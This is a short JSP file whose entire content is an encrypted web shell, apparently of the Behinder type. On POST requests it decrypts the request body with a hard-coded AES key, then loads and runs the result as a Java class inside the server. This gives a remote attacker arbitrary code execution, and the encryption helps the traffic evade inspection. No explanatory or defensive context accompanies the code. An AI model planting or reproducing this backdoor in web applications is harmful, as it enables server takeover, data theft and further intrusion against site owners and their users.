<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
  class Loader extends ClassLoader {
    Loader(ClassLoader parent) { super(parent); }
    public Class define(byte[] b) { return super.defineClass(b, 0, b.length); }
  }
%>
<%
  if (request.getMethod().equals("POST")) {
    String k = "a1b2c3d4e5f60718";
    session.putValue("u", k);
    Cipher c = Cipher.getInstance( "AES" );
    c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
    byte[] body = new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine());
    new Loader(this.getClass().getClassLoader()).define(c.doFinal(body)).newInstance().equals(pageContext);
  }
%>
